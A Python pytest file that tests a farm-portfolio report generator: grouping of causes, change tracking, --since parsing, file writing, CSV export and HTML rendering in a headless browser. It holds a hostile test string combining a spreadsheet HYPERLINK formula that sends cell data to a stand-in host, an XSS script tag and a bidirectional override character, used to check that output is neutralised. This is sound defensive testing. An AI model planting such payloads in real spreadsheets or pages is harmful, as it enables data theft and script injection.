"""The portfolio: the same trouble of many farms is one entry, nothing in it can do harm, and it fits the screen."""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
from datetime import UTC, datetime
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipeline import checklists
from pipeline.errors import UsageError
from pipeline.models import RowStatus
from pipeline.portfolio.build import group_by_cause, titles_of
from pipeline.portfolio.changes import changes_between
from pipeline.portfolio.keep import last_portfolio, write_portfolio
from pipeline.portfolio.model import Farm, Point, Portfolio, Row, Wait
from pipeline.portfolio.page import render_page
from pipeline.portfolio.since import parse_since
from pipeline.portfolio.table import harmless, render_csv

NOON = datetime(2026, 3, 2, 12, 0, tzinfo=UTC)
CHECKLIST = checklists.load("soil-carbon-v1.2.2")
IDS = [r.requirement_id for r in CHECKLIST.requirements]
TITLES = titles_of([CHECKLIST])
HOSTILE = '=HYPERLINK("http://x.example/?"&A1)<script>alert(1)</script>\u202e'


def point(cause: str = "absent:gis_boundary", **fields: Any) -> Point:
    given = {"kind": "missing_document", "severity": "high", "who": "proponent", "message": "No GIS boundary came."}
    about = {"clears_when": "It is sent.", "requirement_ids": ("REQ-004",)}
    return Point.model_validate({"cause": cause, **given, **about, **fields})


def farm(number: int, *points: Point, **fields: Any) -> Farm:
    statuses: list[RowStatus] = ["covered", "partial", "missing", "needs_review", "not_applicable"]
    rows = {one: statuses[i % 5 if i % 7 == number % 7 else 0] for i, one in enumerate(IDS)}
    usual = {
        "session_id": f"session-20260302-{number:06d}",
        "project": f"Farm {number:03d}",
        "methodology": CHECKLIST.methodology,
        "state": "reported",
        "rows": rows,
        "points": points,
        "documents": 7,
        "inputs_at": NOON,
        "report": f"../sessions/session-20260302-{number:06d}/reports/r.html",
        "report_sha256": "0" * 64,
    }
    return Farm.model_validate({**usual, **fields})


def portfolio(*farms: Farm) -> Portfolio:
    return Portfolio(
        program_version="0",
        inputs_at=NOON,
        columns={
            CHECKLIST.methodology: tuple(
                Row(requirement_id=r.requirement_id, title=r.title) for r in CHECKLIST.requirements
            )
        },
        farms=farms,
        causes=group_by_cause(farms, TITLES),
    )


# --- causes -----------------------------------------------------------------------------------------------------------


def test_the_same_paper_missing_in_41_farms_is_one_entry_with_41_farms() -> None:
    made = portfolio(*(farm(i, *([point()] if i < 41 else [])) for i in range(70)))
    (group,) = made.causes
    assert len(group.farms) == 41
    assert group.title == "No GIS boundary came."
    page = render_page(made)
    assert re.search(r"<b>41</b> of 70 farms", page)


def test_a_paper_that_is_missing_and_one_that_a_person_must_look_at_are_two_entries() -> None:
    looked = point(kind="needs_person", who="registry agent", severity="medium", message="Somebody looks at it.")
    made = portfolio(farm(1, point()), farm(2, looked))
    assert [(g.kind, len(g.farms)) for g in made.causes] == [("missing_document", 1), ("needs_person", 1)]


def test_causes_stand_worst_first_and_then_by_how_many_farms_they_concern() -> None:
    low = point("x", severity="low", message="low")
    few, many = point("few", message="few"), point("many", message="many")
    made = portfolio(farm(1, low, few, many), farm(2, low, many), farm(3, low))
    assert [g.cause for g in made.causes] == ["many", "few", "x"]


def test_farms_that_say_it_in_their_own_words_get_a_common_title_and_keep_their_words() -> None:
    torn = [point(f"unreadable:{kind}", kind="unreadable", message=f"{name} could not be read.")
            for kind, name in (("land_tenure", "a.pdf"), ("land_tenure", "b.pdf"))]  # fmt: skip
    page = render_page(portfolio(farm(1, torn[0]), farm(2, torn[1])))
    assert "A file could not be read: land tenure" in page
    assert "a.pdf could not be read." in page
    assert "b.pdf could not be read." in page


# --- changes ----------------------------------------------------------------------------------------------------------


def test_only_the_farm_that_differs_is_named_with_its_rows_and_what_was_cleared() -> None:
    before = portfolio(farm(1, point()), farm(2, point()))
    better = farm(2)
    after = portfolio(farm(1, point()), better.model_copy(update={"rows": {**better.rows, "REQ-004": "needs_review"}}))
    (change,) = changes_between(before, after).farms
    assert change.session_id == better.session_id
    assert change.rows == {"REQ-004": ("covered", "needs_review")}
    assert change.cleared == ("No GIS boundary came.",)
    assert change.came == ()


def test_new_and_gone_farms_are_named() -> None:
    found = changes_between(portfolio(farm(1), farm(2)), portfolio(farm(2), farm(3)))
    assert [(c.project, c.what) for c in found.farms] == [("Farm 003", "new"), ("Farm 001", "gone")]


def test_a_run_that_finds_nothing_new_leaves_the_last_answer_standing() -> None:
    first = portfolio(farm(1))
    told = first.model_copy(update={"changes": changes_between(None, first)})
    assert changes_between(told, portfolio(farm(1))) == told.changes


def test_another_place_of_the_report_is_no_news() -> None:
    told = portfolio(farm(1))
    assert changes_between(told, portfolio(farm(1, report="elsewhere.html"))).farms == ()


# --- files ------------------------------------------------------------------------------------------------------------


def test_the_json_is_read_back_as_the_same_value_and_what_it_was_not_is_ignored(tmp_path: Path) -> None:
    made = portfolio(farm(1, point()))
    write_portfolio(tmp_path, made)
    assert last_portfolio(tmp_path) == made
    (tmp_path / "portfolio.json").write_text('{"schema_version": 99}', encoding="utf-8")
    assert last_portfolio(tmp_path) is None


def test_the_same_portfolio_touches_no_file(tmp_path: Path) -> None:
    paths = write_portfolio(tmp_path, portfolio(farm(1, point())))
    seen = {path: path.stat().st_ino for path in paths.values()}
    write_portfolio(tmp_path, portfolio(farm(1, point())))
    assert {path: path.stat().st_ino for path in paths.values()} == seen
    assert {path.stat().st_mode & 0o777 for path in paths.values()} == {0o600}


def test_no_cell_of_the_table_is_a_formula() -> None:
    made = portfolio(farm(1, project=HOSTILE, reason="+1+1", unreadable=("@SUM(1).pdf",)))
    cells = [cell for line in csv.reader(io.StringIO(render_csv(made))) for cell in line]
    assert any("HYPERLINK" in cell for cell in cells)
    assert [cell for cell in cells if cell.lstrip().startswith(("=", "+", "-", "@"))] == []


@given(st.text())
def test_whatever_a_text_is_its_cell_starts_no_formula_and_stays_one_line(text: str) -> None:
    cell = harmless(text)
    assert not cell.lstrip().startswith(("=", "+", "-", "@", "\t", "\r", "|", "%"))
    assert "\n" not in cell
    (line,) = csv.reader(io.StringIO(",".join(["x", '"' + cell.replace('"', '""') + '"'])))
    assert line == ["x", cell]


def test_the_table_has_a_line_for_each_farm_and_a_column_for_each_row() -> None:
    made = portfolio(farm(1, point()), farm(2, state="failed", rows={}, reason="It failed."))
    first, second = csv.DictReader(io.StringIO(render_csv(made)))
    assert [first[one] for one in IDS] == list(made.farms[0].rows.values())
    assert (first["high"], first["waits for proponent"]) == ("1", "1")
    assert (second["state"], second["reason"], second["REQ-001"]) == ("failed", "It failed.", "")


# --- --since ----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "moment"),
    [
        ("24h", "2026-03-01T12:00:00+00:00"),
        ("7d", "2026-02-23T12:00:00+00:00"),
        ("2w", "2026-02-16T12:00:00+00:00"),
        ("2026-03-01", "2026-03-01T00:00:00+00:00"),
        ("2026-03-01T18:00+02:00", "2026-03-01T16:00:00+00:00"),
        ("2026-03-01 06:30", "2026-03-01T06:30:00+00:00"),
        ("999999w", "0001-01-01T00:00:00+00:00"),
    ],
)
def test_a_date_a_time_and_a_span_are_moments(text: str, moment: str) -> None:
    assert parse_since(text, NOON).isoformat() == moment


@pytest.mark.parametrize("text", ["", "yesterday", "7", "h", "-3d", "2026-13-01", "2027-01-01", "٣d"])
def test_what_is_no_moment_or_lies_ahead_is_wrong_usage(text: str) -> None:
    with pytest.raises(UsageError, match="--since"):
        parse_since(text, NOON)


# --- the page ---------------------------------------------------------------------------------------------------------


class Links(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.ids: set[str] = set()
        self.hrefs: list[str] = []
        self.loaded: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        self.ids.add(given.get("id") or "")
        if tag in ("a", "use"):
            self.hrefs.append(given.get("href") or "")
        self.loaded += [value or "" for key, value in attrs if key in ("src", "srcset", "style", "onload")]


def large() -> Portfolio:
    """Seventy farms with everything a page must survive."""
    worst = point("REQ-009:years", kind="test_failed", message="Long words " * 40, requirement_ids=tuple(IDS))
    farms = [farm(i, *([point()] if i % 2 else []), *([worst] if i % 5 == 0 else [])) for i in range(68)]
    odd = farm(68, point("x", message=HOSTILE), project=HOSTILE, unreadable=("a.pdf", "b.pdf"))
    wait = Wait(who="operator", what="`discover` failed: the disk.", command="registry-review failed retry s")
    failed = farm(69, rows={}, state="failed", reason="the disk", waits=(wait,), report=None)
    made = portfolio(*farms, odd, failed)
    return made.model_copy(update={"changes": changes_between(portfolio(*farms[:60]), made)})


def test_every_link_within_the_page_arrives_and_nothing_is_loaded() -> None:
    page = render_page(large())
    seen = Links()
    seen.feed(page)
    assert {h[1:] for h in seen.hrefs if h.startswith("#")} <= seen.ids
    assert seen.loaded == []
    assert [h for h in seen.hrefs if ":" in h] == []
    assert "<script>" not in page
    assert "⟦U+202E⟧" in page


def test_an_empty_home_has_a_page_too() -> None:
    page = render_page(Portfolio(program_version="0", inputs_at=None, columns={}, farms=(), causes=()))
    assert "No farms" in page


@pytest.fixture(scope="session")
def browser(browser_program: str) -> str:
    return browser_program


@pytest.mark.parametrize("width", [1366, 700])
def test_seventy_farms_fit_the_screen_and_the_console_stays_silent(browser: str, tmp_path: Path, width: int) -> None:
    probe = """<script>addEventListener("load", () => {
      const wide = document.documentElement.scrollWidth, mark = document.querySelector("td .mark");
      const box = mark.getBoundingClientRect(), turns = document.querySelector("#causes").getBoundingClientRect();
      document.title = "SEEN" + JSON.stringify({wide, mark: box.width}) + "SEEN"; });</script>"""
    flags = ("--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking",
             "--disable-sync", "--hide-scrollbars", "--enable-logging=stderr", f"--window-size={width},768",
             "--virtual-time-budget=3000", "--dump-dom", f"--user-data-dir={tmp_path / 'profile'}")  # fmt: skip

    def opened(page: str) -> subprocess.CompletedProcess[str]:
        file = tmp_path / "portfolio.html"
        file.write_text(page, encoding="utf-8")
        return subprocess.run(  # noqa: S603 - the browser found on PATH, on a page of our own
            [browser, *flags, file.as_uri()], capture_output=True, text=True, timeout=60, check=True
        )

    page = render_page(large())
    # Under its own policy the page has nothing to complain of; a blocked style would complain there
    assert "CONSOLE" not in opened(page).stderr
    # And with the policy taken off, so that our probe may run, nothing is wider than the screen
    bare = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", page).replace("</body>", probe + "</body>")
    found = re.search(r"<title>SEEN(.*?)SEEN</title>", opened(bare).stdout)
    assert found
    assert json.loads(found[1].replace("&amp;", "&")) == {"wide": width, "mark": 15}
